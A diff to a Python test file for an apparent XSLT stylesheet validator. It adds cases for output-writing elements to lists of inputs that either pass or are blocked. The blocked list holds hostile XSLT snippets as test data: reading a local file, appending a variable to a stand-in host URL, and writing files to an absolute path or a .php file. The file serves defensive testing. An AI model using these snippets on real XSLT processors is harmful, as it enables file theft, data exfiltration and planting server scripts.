@@ -168,6 +168,8 @@ def test_what_leaves_its_place_is_blocked(text: str) -> None:
         '<xsl:import href="../common/page.xsl"/>',
         '<xsl:import href="http://cdn.docbook.org/release/xsl/current/html/docbook.xsl"/>',
         '<xsl:variable name="it" select="document($file)//item"/>',
+        '<redirect:write file="{$name}"><xsl:copy-of select="."/></redirect:write>',
+        '<xsl:result-document href="{$name}.html"><xsl:copy-of select="."/></xsl:result-document>',
         '<xsl:when test="$depth != 0 and not(parent::*)">',
         "".join(chr(1 + n % 8) + "x)(y=*" * (n % 40 == 0) for n in range(400)),
     ],
@@ -186,6 +188,8 @@ def test_honest_queries_and_lines_pass(text: str) -> None:
         "<xsl:copy-of select=\"document('file:///srv/x')\"/>",
         "<xsl:copy-of select=\"document(concat('http://e.example/', $x))\"/>",
         "<xsl:value-of select=\"system-property('version')\"/>",
+        '<redirect:write file="/srv/x"><xsl:copy-of select="."/></redirect:write>',
+        '<xsl:result-document href="x.php"><xsl:copy-of select="."/></xsl:result-document>',
     ],
 )
 def test_documents_that_reach_elsewhere_are_blocked(text: str) -> None:
